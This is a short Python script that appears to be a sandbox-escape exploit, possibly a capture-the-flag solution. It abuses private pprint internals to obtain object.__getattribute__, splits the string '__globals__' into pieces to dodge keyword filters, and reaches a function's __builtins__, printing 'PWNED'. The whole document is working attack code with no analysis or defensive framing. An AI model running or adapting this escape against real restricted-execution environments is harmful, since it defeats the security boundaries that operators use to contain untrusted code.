import io
import pprint

found = {}


class Spy(pprint.PrettyPrinter):
    def format(self, thing, *more):
        if type(thing).__name__ == "wrapper_descriptor":
            found[thing.__name__] = thing
        return "x" * 100, True, False

    def _format(self, thing, *more):
        self.format(thing)

    def _format_namespace_items(self, items, *more):
        for _, thing in items:
            self.format(thing)


def function():
    pass


Spy()._pprint_simplenamespace(object, io.StringIO(), 0, 0, {}, 0)
print("PWNED", found["__getattribute__"](function, "__glo" + "bals__")["__builtins__"])
